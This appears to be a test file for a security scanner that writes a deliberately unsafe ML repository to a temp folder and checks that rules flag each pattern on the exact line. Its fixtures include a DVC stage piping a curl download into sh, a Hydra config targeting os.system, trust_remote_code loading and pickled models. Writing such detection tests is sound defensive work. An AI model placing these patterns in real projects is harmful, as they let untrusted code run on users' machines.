// Pipeline rules (pipeline/*, model/remote-code) through the bundled CLI. The public corpora hold no pipeline
// configs or Python, so they serve as a false-positive guard (no pipeline finding anywhere in them); a small
// generated ML repository (written to a temp folder here, never committed) checks each rule end to end, on
// the exact line.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

const OURS = (id) => id.startsWith('pipeline/') || id === 'model/remote-code';

const TREE = {
  'train.py': [
    'import torch, yaml',
    'from huggingface_hub import hf_hub_download',
    'from transformers import AutoModel',
    '"""torch.load(x) in a docstring is not a call."""',
    'ckpt = hf_hub_download("acme/clf", "model.bin")',
    'state = torch.load(ckpt)',
    'model = AutoModel.from_pretrained("acme/encoder", trust_remote_code=True)',
    'cfg = yaml.safe_load(open("conf/train.yaml"))',
    '',
  ].join('\n'),
  'conf/train.yaml': 'callback:\n  _target_: os.system\n  _args_: ["id"]\nmodel_name_or_path: acme/llm\n',
  'dvc.yaml': 'stages:\n  setup:\n    cmd: curl -s https://example.invalid/i.sh | sh\n',
  '.dvc/config': '[remote "web"]\n    url = http://dvc.example.com/store\n',
  'models/x/config.json': '{\n  "auto_map": {"AutoModel": "other-org/code--modeling.XModel"}\n}\n',
  'models/x/MLmodel': 'flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n',
};

const EXPECTED = [
  'pipeline/unpinned-model train.py:5', 'pipeline/remote-code-load train.py:6', 'pipeline/remote-code-load train.py:7',
  'pipeline/unpinned-model train.py:7', 'pipeline/hydra-target conf/train.yaml:2', 'pipeline/unpinned-model conf/train.yaml:4',
  'pipeline/dvc dvc.yaml:3', 'pipeline/dvc .dvc/config:2', 'model/remote-code models/x/config.json:2', 'pipeline/mlflow models/x/MLmodel:4',
];

export default async function pipeline({ check, scan, all }) {
  const stray = (all?.findings ?? []).filter((f) => OURS(f.ruleId));
  check('pipeline: no pipeline or remote-code finding in the public corpora', stray.length === 0,
    stray.slice(0, 5).map((f) => `${f.ruleId} ${f.location.path}:${f.location.line ?? '-'}`).join('\n     '));

  const root = mkdtempSync(join(tmpdir(), 'ai-gate-pipeline-corpus-'));
  try {
    for (const [path, text] of Object.entries(TREE)) {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), text);
    }
    const { code, report } = scan(root);
    const got = (report?.findings ?? []).filter((f) => OURS(f.ruleId)).map((f) => `${f.ruleId} ${f.location.path}:${f.location.line}`);
    check('pipeline: generated ML repository fails the gate (exit 1)', code === 1, `exit ${code}`);
    const missing = EXPECTED.filter((e) => !got.includes(e));
    const extra = got.filter((g) => !EXPECTED.includes(g));
    check('pipeline: each rule reports on the exact line, and nothing else', missing.length === 0 && extra.length === 0,
      `missing: ${missing.join(', ') || '-'}; extra: ${extra.join(', ') || '-'}`);
    const critical = (report?.findings ?? []).find((f) => f.ruleId === 'pipeline/hydra-target');
    check('pipeline: a Hydra target of os.system is critical', critical?.severity === 'critical', critical?.severity);
    const docstring = got.filter((g) => g.endsWith('train.py:4'));
    check('pipeline: a loader named in a docstring is not reported', docstring.length === 0, docstring.join(', '));
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
}
